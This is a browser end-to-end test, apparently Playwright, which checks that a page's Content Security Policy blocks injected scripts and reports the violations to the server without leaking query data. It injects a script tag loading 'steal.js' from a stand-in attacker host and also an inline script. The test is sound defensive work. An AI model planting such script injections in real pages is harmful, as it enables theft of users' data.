import { Cabinet } from '../support/cabinet.js';
import { eventually } from '../support/eventually.js';
import { Screens } from '../support/screen.js';

describe('a page that somebody put a foreign script into', () => {
  let cabinet: Cabinet;
  let screens: Screens;

  beforeAll(async () => {
    cabinet = await Cabinet.open();
    screens = await Screens.open(cabinet);
  }, 120_000);
  afterAll(async () => {
    await screens.close();
    await cabinet.close();
  });

  it('does not run it, and the browser tells the server', async () => {
    const page = await screens.window();
    await page.goto('/');
    await page.getByRole('main').waitFor();
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/steal.js?who=me';
      document.body.append(script);
      const inline = document.createElement('script');
      inline.textContent = 'window.wasRun = true';
      document.body.append(inline);
    });
    expect(await page.evaluate(() => 'wasRun' in window)).toBe(false);
    await eventually(() => {
      const told = cabinet.log.filter((line) => line.includes('a browser was kept from')).join('\n');
      expect(told).toContain('https://evil.example (script-src-elem)');
      expect(told).toContain('inline (script-src-elem)');
      expect(told).not.toContain('who=me');
    });
  });
});
